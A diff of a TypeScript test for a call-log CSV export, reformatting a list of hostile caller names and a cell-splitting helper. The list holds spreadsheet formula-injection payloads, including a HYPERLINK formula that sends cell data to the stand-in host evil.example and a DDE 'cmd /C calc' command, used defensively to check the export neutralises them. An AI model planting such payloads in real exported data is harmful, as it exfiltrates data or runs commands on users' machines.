@@ -9,12 +9,23 @@ import { exportToString } from '../../src-main/core/store/call-log-export';
 import { runCli } from '../support/cli';
 import { makeWorkstation } from '../support/workstation';
 
-const NASTY_NAMES = ['x;=1+1', '=HYPERLINK("http://evil.example/?"&A1;"Mehr")', 'Meyer, @SUM(1)', 'Tab\t=1', 'a;"=2+2"', '-2+3+cmd|\' /C calc\'!A0', 'ok; \r\n+1'];
+const NASTY_NAMES = [
+  'x;=1+1',
+  '=HYPERLINK("http://evil.example/?"&A1;"Mehr")',
+  'Meyer, @SUM(1)',
+  'Tab\t=1',
+  'a;"=2+2"',
+  "-2+3+cmd|' /C calc'!A0",
+  'ok; \r\n+1',
+];
 const FORMULA = /^[=+\-@\t\r]/;
 
 /** Every cell a spreadsheet could see when it splits the text on `delimiter` and ignores quotes. */
 function cellsSplitOn(csv: string, delimiter: ',' | ';'): string[] {
-  return csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter)).map((cell) => cell.replace(/^[ "]+/, ''));
+  return csv
+    .split(/\r\n|\r|\n/)
+    .flatMap((line) => line.split(delimiter))
+    .map((cell) => cell.replace(/^[ "]+/, ''));
 }
 
 async function callsFromNastyCallers() {
